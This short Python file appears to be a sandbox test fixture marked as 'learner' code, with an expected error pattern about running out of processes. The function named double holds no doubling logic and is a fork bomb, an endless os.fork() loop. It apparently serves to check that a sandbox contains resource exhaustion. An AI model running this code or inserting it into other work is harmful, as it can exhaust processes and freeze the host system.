# side: learner
# ends: PermissionError.*no processes
import os

def double(x):
    while True:
        os.fork()
